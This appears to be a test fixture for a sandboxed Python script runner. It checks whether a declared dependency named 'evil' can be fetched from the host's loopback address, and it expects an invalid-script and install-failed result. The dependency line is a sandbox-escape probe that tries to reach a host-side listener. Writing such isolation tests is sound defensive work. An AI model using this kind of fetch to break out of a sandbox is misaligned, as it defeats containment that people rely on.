# tries: to have the installer fetch from the host's loopback
# escaped if: the host's listener is reached, or ESCAPED is printed
# dependencies: evil @ http://127.0.0.1:@PORT@/@TOKEN@/evil-1.0-py3-none-any.whl
# status: invalid_script install_failed
print("ESCAPED")
